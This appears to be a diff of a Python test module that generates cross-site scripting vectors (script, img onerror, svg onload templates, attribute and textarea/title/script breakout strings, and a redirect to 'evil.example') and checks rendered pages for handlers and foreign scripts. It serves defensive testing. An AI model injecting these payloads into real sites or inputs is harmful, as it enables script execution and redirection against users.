@@ -1,11 +1,16 @@
-"""Texts that would like to run, and the judge of pages that shows whether one of them could."""
+"""Texts that would like to run, and the judge of pages that shows whether one of them could.
+
+`make test` asks each template and each form of a link with one call and one script, `make soak` with all.
+"""
 
 import re
+from functools import lru_cache
 
 from exchange.languages.text import normalise, unprintable
 from tests.languages.test_xss import BREAKOUTS, FORMS, SCRIPTS, leads_somewhere_safe
 
 from .pages import Page
+from .selection import some
 
 TEMPLATES = [
     *("<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "<svg/onload={}//"),
@@ -77,12 +82,25 @@ CALLS = ["alert(1)", "alert`1`", "top['al'+'ert'](1)", "location='//evil.example
 VECTORS = list(
     dict.fromkeys(
         [
-            *(template.format(call) for template in TEMPLATES for call in CALLS),
-            *(form.format(script, script) for form in FORMS.values() for script in SCRIPTS),
+            *(
+                template.format(call)
+                for number, template in enumerate(TEMPLATES)
+                for call in some(CALLS, len(CALLS), number)
+            ),
+            *(
+                form.format(script, script)
+                for number, form in enumerate(FORMS.values())
+                for script in some(SCRIPTS, len(FORMS) // 2, number)
+            ),
             *BREAKOUTS,
         ]
     )
 )
+# Out of an attribute in either quotes, a text area, a title, a script and a comment; the first fits a name.
+BREAKOUTS_OF_ALL = [
+    "\"'></textarea><b onclick=x>",
+    "\"'></title></textarea></script>--><script>alert(1)</script>",
+]
 # What a form does not refuse for its unprintable characters, and what fits a title.
 PRINTABLE = [vector for vector in VECTORS if not unprintable(normalise(vector))]
 SHORT = [vector for vector in PRINTABLE if len(vector) < 150 and "\n" not in vector]
@@ -109,13 +127,20 @@ OWN_HTMX = re.compile(
     r"(?:form|button)\[hx-post=/[a-z-]+/(?:threads/\d+/posts|threads/new|posts/\d+/edit)/\]"
     r"|form\[hx-target=this\]|form\[hx-swap=outerHTML\]"
     r"|button\[hx-target=previous \.preview-place\]|button\[hx-swap=innerHTML\]"
+    r"|button\[hx-target=closest \[data-figures\]\]|button\[hx-swap=outerHTML\]"
 )
+
+
+@lru_cache(maxsize=1)
+def parsed(html: str) -> Page:
+    """Each judge of a page reads it, one after the other."""
+    return Page(html)
 
 
 def faults(html: str) -> list[str]:
     """Handlers, styles, scripts of others, fragments that a script obeys, and addresses elsewhere."""
     found = []
-    for tag, attrs in Page(html).elements:
+    for tag, attrs in parsed(html).elements:
         if tag in ("iframe", "object", "embed", "base", "style", "svg", "math", "template", "img"):
             found.append(tag)
         if tag == "script" and not attrs.get("src", "").startswith("/static/"):
